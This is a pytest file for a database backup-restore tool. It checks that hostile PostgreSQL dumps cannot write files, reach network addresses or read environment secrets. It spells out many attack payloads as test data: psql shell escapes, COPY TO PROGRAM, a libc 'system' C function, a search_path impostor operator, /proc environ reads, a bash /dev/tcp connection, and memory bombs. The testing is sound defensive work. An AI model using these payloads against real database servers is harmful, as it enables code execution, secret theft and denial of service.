"""A dump is hostile input: restored, it makes no file outside, reaches no address, and reads no variable of ours."""

import ipaddress
import os
import secrets
import shutil
import socket
import subprocess
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

import pytest

from fixtures import confinement
from fixtures.embedded import EmbeddedServer
from fixtures.measure.restore_messages import Harm, complaints
from fixtures.short_folder import short_folder
from reports.requirement import Breach, Unverified
from restore import container
from restore.container import ContainerThrowaway
from restore.leftovers import Lease
from restore.server import ADMINISTRATOR, EmbeddedThrowaway, Finished, ThrowawayServer, restriction_key
from tests.fixtures.processes import until
from tests.restore.conftest import IMAGES, Driller

CANARY = "a-canary-of-ours"
LONGEST_NAME = 64  # bytes, of PostgreSQL: one less

PLAIN = """--
-- PostgreSQL database dump
--
\\restrict dumpsown
-- Dumped from database version 16.14
-- Dumped by pg_dump version 16.14
{hostile}
CREATE TABLE public.witness (line text);
\\unrestrict dumpsown
{hostile}
--
-- PostgreSQL database dump complete
--
"""


def dump(hostile: str) -> bytes:
    return PLAIN.format(hostile=hostile).encode()


COMMANDS = {
    "shell": "\\! touch {file}",
    "shell within a line": "SELECT 1; \\! touch {file}",
    "output into a program": "\\o | touch {file}",
    "query into a program": "SELECT 1 \\g | touch {file}\n;",
    "output into a file": "SELECT 1 \\g {file}\n;",
    "back quotes": "\\set x `touch {file}`",
    "copy from a program": "\\copy public.witness from program 'touch {file}'",
    "copy into a file": "\\copy (SELECT 1) to {file}",
    "write": "\\w {file}",
    "large object": "\\lo_export 1 {file}",
    "restriction lifted by a guess": "\\unrestrict dumpsown\n\\! touch {file}",
    "environment": "\\getenv leaked HOME\n\\echo :leaked",
}


def every(hostile: Mapping[str, str], no_file: Callable[[str], str]) -> str:
    """All of them in one dump, each with a file of its own to make: no error ends the restore."""
    return "\n".join(each.format(file=no_file(kind.replace(" ", "-"))) for kind, each in hostile.items())


def test_commands_of_psql_are_a_breach_before_anything_is_restored(
    embedded_driller: Driller, no_file: Callable[[str], str]
) -> None:
    report = embedded_driller.hold(dump(every(COMMANDS, no_file)))
    assert report.server == ""
    with pytest.raises(Breach, match="commands of psql in the backup"):
        report.harmful()


@pytest.mark.parametrize("command", ["\\connect - - 127.0.0.1 5432", "\\connect 'host=127.0.0.1 port=5432'"])
def test_dump_that_would_go_to_another_server_is_not_begun(embedded_driller: Driller, command: str) -> None:
    report = embedded_driller.hold(dump(command))
    with pytest.raises(Breach, match=r"commands of psql in the backup: \\connect"):
        report.harmful()


def test_name_of_a_database_that_is_an_address_leads_to_no_other_server(driller: Driller) -> None:
    cluster = "PostgreSQL database cluster dump"
    with short_folder("test") as folder, EmbeddedServer(folder, major=16, tcp=False) as other:
        name = f"host={other.socket_dir} user=postgres"
        assert len(name) < LONGEST_NAME
        report = driller.hold(
            f'-- {cluster}\n\n\\connect "{name}"\n\n'.encode() + dump("") + f"-- {cluster} complete\n".encode()
        )
        assert report.harmful() == []
        assert report.archive is not None
        assert [each.database for each in report.archive.dumps] == [name]
        assert report.restored.rows == {"public.witness": 0}
        # A client program that takes it for an address does get there.
        argv = other.command("psql", "-X", "-Atc", "SELECT to_regclass('public.witness') IS NULL", "-d", name)
        assert subprocess.run(argv, env={}, capture_output=True, text=True, check=True).stdout == "t\n"


def test_what_a_function_of_the_dump_raises_is_not_put_on_record(embedded_driller: Driller) -> None:
    raising = """
CREATE FUNCTION public.sheet() RETURNS int LANGUAGE plpgsql AS $$ BEGIN
    {} 'Patient Ana 12345678-9 has no sheet'; RETURN 1; END $$;
SELECT public.sheet();
"""
    for how, told in (
        ("RAISE EXCEPTION", "function of the dump sheet;"),
        ("RAISE WARNING", "a warning of the server"),
    ):
        report = embedded_driller.hold(PLAIN.replace("{hostile}", "", 1).format(hostile=raising.format(how)).encode())
        assert [told in each.text for each in report.complaints] == [True]
        assert report.harmful() != []
        assert "Ana" not in repr(report)


STATEMENTS = {
    "program": "COPY (SELECT 1) TO PROGRAM 'touch {file}';",
    "file": "COPY (SELECT 1) TO '{file}';",
    "read": "COPY public.witness FROM '/etc/passwd';",
    "large object": "SELECT lo_export(lo_from_bytea(0, 'x'), '{file}');",
    "function in C": "CREATE FUNCTION s(text) RETURNS int AS 'libc.so.6', 'system' LANGUAGE c;",
    "superuser": "ALTER ROLE CURRENT_USER SUPERUSER; COPY (SELECT 1) TO PROGRAM 'touch {file}';",
    "administrator": "SET SESSION AUTHORIZATION constancia_admin; COPY (SELECT 1) TO PROGRAM 'touch {file}';",
    "configuration": "ALTER SYSTEM SET archive_command = 'touch {file}';",
}


def test_statements_are_refused_where_the_sandbox_holds_no_superuser(
    embedded_driller: Driller, no_file: Callable[[str], str]
) -> None:
    report = embedded_driller.hold(dump(every(STATEMENTS, no_file)))
    assert sum(each.count for each in report.complaints) >= 2 * len(STATEMENTS)
    assert report.restored.rows == {"public.witness": 0}
    with pytest.raises(Unverified):  # some of it only a superuser may, which is no fault of the backup
        report.harmful()
    assert report.leftovers() == []


# Runs, as whoever asks, wherever two oids are compared: for the name of the operator and for everybody's search path.
IMPOSTOR = """
CREATE SCHEMA evil;
CREATE FUNCTION evil.eq(oid, oid) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
  BEGIN
    COPY (SELECT 1) TO PROGRAM 'touch {file}';
  EXCEPTION WHEN OTHERS THEN RAISE WARNING 'not yet';
  END;
  RETURN $1 OPERATOR(pg_catalog.=) $2;
END $f$;
CREATE OPERATOR evil.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = evil.eq);
CREATE VIEW evil.pg_class AS SELECT * FROM pg_catalog.pg_class;
ALTER DATABASE drill SET search_path = evil, pg_catalog;
"""


def test_code_of_the_dump_does_not_run_while_its_rows_are_counted(
    embedded_driller: Driller, no_file: Callable[[str], str]
) -> None:
    report = embedded_driller.hold(
        PLAIN.replace("{hostile}", "", 1).format(hostile=IMPOSTOR.format(file=no_file("impostor"))).encode()
    )
    assert report.harmful() == []
    assert not [each for each in report.complaints if "oid" in each.text]
    assert report.restored.rows == {"public.witness": 0}


def test_role_that_the_dump_sets_for_everybody_does_not_count(driller: Driller) -> None:
    hostile = "ALTER DATABASE drill SET role = nobody_else; ALTER DATABASE drill SET search_path = evil;"
    head = "-- Name: witness; Type: TABLE; Schema: public; Owner: nobody_else\n"
    report = driller.hold(PLAIN.replace("{hostile}", head, 1).format(hostile=hostile).encode())
    assert report.restored.rows == {"public.witness": 0}


def test_superuser_in_a_container_reaches_nothing_outside_of_it(
    container_driller: Driller, no_file: Callable[[str], str], listener: tuple[str, Callable[[], bool]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    address, was_reached = listener
    monkeypatch.setenv("MIRA_PASSWORD", "s3cret-of-ours")
    file = no_file("made")
    host, port = address.split(":")
    hostile = f"""
CREATE TABLE public.environment (line text);
COPY public.environment FROM PROGRAM 'cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"; true';
CREATE TABLE public.leaked AS SELECT * FROM public.environment WHERE line LIKE '%s3cret%';
CREATE TABLE public.interfaces (line text);
COPY public.interfaces FROM PROGRAM 'ls /sys/class/net';
CREATE TABLE public.others AS SELECT * FROM public.interfaces WHERE line <> 'lo';
CREATE TABLE public.reached (line text);
COPY public.reached FROM PROGRAM 'bash -c "exec 3<>/dev/tcp/{host}/{port} && echo reached"; true';
CREATE TABLE public.mounts (line text);
COPY public.mounts FROM PROGRAM 'touch {file}; grep -c "docker.sock" /proc/mounts; id -u; true';
CREATE TABLE public.capabilities (line text);
COPY public.capabilities FROM PROGRAM 'grep "^CapEff:" /proc/self/status | tr -d "[:space:]"';
CREATE TABLE public.capable AS SELECT * FROM public.capabilities WHERE line !~ ':0+$';
"""  # noqa: S608 -- hostile on purpose
    report = container_driller.hold(PLAIN.replace("{hostile}", "", 1).format(hostile=hostile).encode())
    rows = report.restored.rows
    assert report.harmful() == []  # it could run its programs, inside
    assert rows["public.environment"] > 3
    assert rows["public.interfaces"] == 1
    assert rows["public.capabilities"] == 1
    nothing = {name: rows[f"public.{name}"] for name in ("leaked", "others", "reached", "capable")}
    assert nothing == dict.fromkeys(nothing, 0)
    assert not was_reached()
    assert not Path(file).exists()
    assert report.leftovers() == []


@pytest.fixture
def listener(containers: None) -> Iterator[tuple[str, Callable[[], bool]]]:
    """An address of this machine that a container on Docker's bridge would reach, and whether anybody did."""
    del containers
    with listening(bridge()) as (host, port, was_reached):
        yield f"{host}:{port}", was_reached


@dataclass(frozen=True)
class Sandbox:
    """A throwaway server that hostile SQL is restored in, as a drill does it: by psql, restricted."""

    server: ThrowawayServer
    user: str

    def restore(self, hostile: str, seconds: float = 60) -> Finished:
        """Restore a plain dump as its role, in a database of its own."""
        name = f"d{secrets.token_hex(4)}"
        assert self.ask(f"CREATE DATABASE {name} OWNER {self.user}", "postgres") == "CREATE DATABASE"
        inside = self.server.put(f"{name}.sql", iter([hostile.encode()]), len(hostile.encode()))
        entry = ("-h", self.server.socket_dir, "-U", self.user, "-d", name)
        restricted = ("-v", "ON_ERROR_STOP=0", "-c", f"\\restrict {restriction_key()}", "-f", inside)
        return self.server.run("psql", "-X", "-q", "-o", "/dev/null", *entry, *restricted, seconds=seconds)

    def ask(self, statement: str, database: str = "postgres") -> str:
        """What the administrator is answered."""
        finished = self.asked(statement, database)
        assert finished.err == "", finished.err
        return finished.out.strip()

    def recovered(self) -> None:
        """Wait until it answers again, be it after a crash."""
        until(lambda: self.asked("SELECT 1").out == "1\n", 60)

    def asked(self, statement: str, database: str = "postgres") -> Finished:
        """The same, whatever comes of it."""
        argv = ("psql", "-X", "-Atc", statement, "-h", self.server.socket_dir, "-U", ADMINISTRATOR, "-d", database)
        return self.server.run(*argv, seconds=60)


@pytest.fixture(scope="module", params=["embedded", pytest.param("container", marks=pytest.mark.in_container)])
def sandbox(request: pytest.FixtureRequest) -> Iterator[Sandbox]:
    """One of either kind for all of these tests; what one breaks in it is not to be seen outside of it."""
    patch = pytest.MonkeyPatch()
    patch.setenv("CONSTANCIA_CANARY", CANARY)
    # What takes all the memory that there is does so in a moment.
    patch.setattr(confinement, "MEMORY", 1 << 30)
    patch.setattr(container, "MEMORY", "1g")
    if request.param == "container":
        request.getfixturevalue("containers")
    with Lease(container=request.param == "container") as lease:
        server = (
            ContainerThrowaway(17, IMAGES, lease.id)  # which has dblink and postgres_fdw
            if request.param == "container"
            else EmbeddedThrowaway(16, lease.folder)
        )
        with server:
            held = Sandbox(server, "restorer")
            rights = "SUPERUSER" if server.holds_superuser else "NOSUPERUSER BYPASSRLS"
            assert held.ask(f"CREATE ROLE restorer LOGIN {rights}") == "CREATE ROLE"
            yield held
        assert server.left == ()
    assert not lease.folder.exists()
    patch.undo()


NESTED = "SELECT " + "(" * 10_000 + "1" + ")" * 10_000 + ";"
VIEWS = """
CREATE TABLE public.v0 (a int);
DO $$ BEGIN FOR i IN 1..10000 LOOP
    EXECUTE pg_catalog.format('CREATE VIEW public.v%s AS SELECT a FROM public.v%s', i, i - 1);
END LOOP; END $$;
SELECT pg_catalog.count(*) FROM public.v10000;
"""
TYPES = """
CREATE TYPE public.t0 AS (a int);
DO $$ BEGIN FOR i IN 1..10000 LOOP
    EXECUTE pg_catalog.format('CREATE TYPE public.t%s AS (a public.t%s)', i, i - 1);
END LOOP; END $$;
"""
HOSTILE = {
    "shell": "\\! touch {file}",
    "copy to program": "\\copy (SELECT 1) to program 'touch {file}'",
    "output": "\\o |touch {file}\nSELECT 1;",
    "program": "COPY (SELECT 1) TO PROGRAM 'touch {file}';",
    "file": "COPY (SELECT 1) TO '{file}';",
    "large object": "SELECT lo_export(lo_from_bytea(0, 'x'), '{file}');",
    "python": "CREATE EXTENSION plpython3u; DO LANGUAGE plpython3u $$ open('{file}', 'w') $$;",
    "function in C": "CREATE FUNCTION s(text) RETURNS int AS 'libc.so.6', 'system' LANGUAGE c;"
    "SELECT s('touch {file}');",
    "configuration": "ALTER SYSTEM SET archive_command = 'touch {file}'; ALTER SYSTEM SET archive_mode = on;"
    "ALTER SYSTEM SET archive_library = ''; SELECT pg_reload_conf();",
    "library": "LOAD '{file}'; DO $$ BEGIN EXECUTE"
    " format('ALTER DATABASE %I SET session_preload_libraries = %L', current_database(), '{file}'); END $$;",
    "trigger on events": "CREATE FUNCTION e() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN"
    " COPY (SELECT 1) TO PROGRAM 'touch {file}'; END $$;"
    "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION e(); CREATE TABLE t (a int);",
    "log": "ALTER SYSTEM SET log_destination = 'csvlog'; ALTER SYSTEM SET log_directory = '/var/tmp';"
    "SELECT pg_reload_conf();",
    "background": "COPY (SELECT 1) TO PROGRAM 'nohup setsid sh -c \"sleep 1; touch {file}\" >/dev/null 2>&1 &';",
}


def test_commands_of_psql_are_refused(sandbox: Sandbox, no_file: Callable[[str], str]) -> None:
    finished = sandbox.restore(every(COMMANDS, no_file))
    refused = [each.count for each in complaints(finished.err, superuser=False) if "are restricted" in each.text]
    assert refused[0] >= len(COMMANDS) - 1  # the lines of one end together


@pytest.mark.parametrize("kind", HOSTILE)
def test_no_file_is_made_outside(sandbox: Sandbox, no_file: Callable[[str], str], kind: str) -> None:
    finished = sandbox.restore(HOSTILE[kind].replace("{file}", no_file("made")))
    assert not finished.timed_out
    if kind == "background":
        time.sleep(1.5)


@pytest.mark.parametrize("way", ["dblink", "postgres_fdw", "program", "subscription"])
@pytest.mark.parametrize("where", ["loopback", "bridge"])
def test_no_address_is_reached(sandbox: Sandbox, where: str, way: str) -> None:
    with listening("127.0.0.1" if where == "loopback" else bridge()) as (host, port, was_reached):
        statements = {
            "dblink": f"CREATE EXTENSION dblink; SELECT dblink_connect('host={host} port={port} connect_timeout=2');",
            "postgres_fdw": "CREATE EXTENSION postgres_fdw;"  # noqa: S608 -- hostile on purpose
            f"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{host}', port '{port}');"
            "CREATE USER MAPPING FOR PUBLIC SERVER s OPTIONS (password 'x');"
            "CREATE FOREIGN TABLE f (a int) SERVER s; SELECT * FROM f;",
            "program": f"COPY (SELECT 1) TO PROGRAM 'bash -c \"exec 3<>/dev/tcp/{host}/{port}\"';",
            "subscription": f"CREATE SUBSCRIPTION s CONNECTION 'port={port} host={host}' PUBLICATION p;",
        }
        finished = sandbox.restore(statements[way])
        assert finished.err
        assert not was_reached()


def test_no_variable_of_ours_is_read_even_by_the_superuser(sandbox: Sandbox) -> None:
    assert os.environ["CONSTANCIA_CANARY"] == CANARY
    script = 'for each in /proc/[0-9]*/environ; do cat "$each" 2>/dev/null | tr "\\0" "\\n"; done; true'
    assert sandbox.ask("CREATE TABLE env (line text)") == "CREATE TABLE"
    whole_lines = "FORMAT csv, QUOTE E'\\x01', DELIMITER E'\\x02'"
    assert sandbox.ask(f"COPY env FROM PROGRAM '{script}' ({whole_lines})").startswith("COPY")
    lines = sandbox.ask("SELECT line FROM env")
    assert "PATH=" in lines  # something was read
    assert CANARY not in lines
    own = sandbox.ask("SELECT encode(pg_read_binary_file('/proc/self/environ', 0, 100000), 'escape')")
    assert CANARY not in own


# The types take more than a minute, so that how long they are waited for tells nothing.
@pytest.mark.parametrize(
    ("hostile", "seconds"), [(NESTED, 30), (VIEWS, 30), (TYPES, 4)], ids=["parentheses", "views", "types"]
)
def test_schema_that_is_10_000_deep_is_an_error_or_given_up(sandbox: Sandbox, hostile: str, seconds: float) -> None:
    finished = sandbox.restore(hostile, seconds)
    harms = {each.harm for each in complaints(finished.err, superuser=False)}
    # Stack or memory end, be it with a crash, which is the sandbox's own; types may be made, at their leisure.
    assert finished.timed_out or hostile == TYPES or harms & {Harm.HARMFUL, Harm.GONE}
    sandbox.recovered()


ENDLESS = {
    "sleep": "SELECT pg_sleep(1e6);",
    "loop": "DO $$ BEGIN LOOP NULL; END LOOP; END $$;",
    "rows": "COPY (SELECT repeat('x', 1000) FROM generate_series(1, 1e12::bigint)) TO STDOUT;",
    "recursion": "WITH RECURSIVE r AS (SELECT 1 AS a UNION ALL SELECT a + 1 FROM r) SELECT count(*) FROM r;",
}


@pytest.mark.parametrize("kind", ENDLESS)
def test_statement_that_never_ends_is_given_up(sandbox: Sandbox, kind: str) -> None:
    begun = time.monotonic()
    finished = sandbox.restore(ENDLESS[kind], seconds=2)
    assert finished.timed_out
    assert time.monotonic() - begun < 12
    # For the sake of the tests that follow.
    ending = "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'restorer'"
    assert set(sandbox.ask(ending).split()) <= {"t"}


BOMBS = {
    "one text": "SELECT length(repeat('x', 1 << 30));",
    "many texts": "SELECT length(string_agg(repeat('x', 1 << 27), '')) FROM generate_series(1, 40);",
    "arrays": "SELECT array_agg(repeat('x', 1 << 20)) FROM generate_series(1, 100000);",
}


@pytest.mark.parametrize("kind", BOMBS)
def test_memory_bomb_is_an_error(sandbox: Sandbox, kind: str) -> None:
    finished = sandbox.restore(BOMBS[kind], seconds=60)
    harms = {each.harm for each in complaints(finished.err, superuser=False)}
    assert harms <= {Harm.HARMFUL, Harm.GONE}
    assert harms or finished.timed_out
    sandbox.recovered()


@contextmanager
def listening(host: str) -> Iterator[tuple[str, int, Callable[[], bool]]]:
    """A port of this machine, and whether anybody came."""
    with closing(socket.create_server((host, 0))) as server:
        server.settimeout(0)

        def was_reached() -> bool:
            with suppress(BlockingIOError):
                server.accept()
                return True
            return False

        yield host, server.getsockname()[1], was_reached


def bridge() -> str:
    """The address of this machine that a container on Docker's bridge would reach; another where there is no Docker."""
    if shutil.which("docker") is None:
        return "127.0.0.2"
    argv = ["docker", "network", "inspect", "bridge", "--format", "{{(index .IPAM.Config 0).Subnet}}"]
    asked = subprocess.run(argv, capture_output=True, text=True, check=False)
    return str(next(ipaddress.ip_network(asked.stdout.strip()).hosts())) if asked.returncode == 0 else "127.0.0.2"


def test_two_kinds_of_listener_are_reached_where_nothing_is_confined() -> None:
    for host in ("127.0.0.1", bridge()):
        with listening(host) as (_, port, was_reached):
            assert not was_reached()
            socket.create_connection((host, port), timeout=2).close()
            assert was_reached()
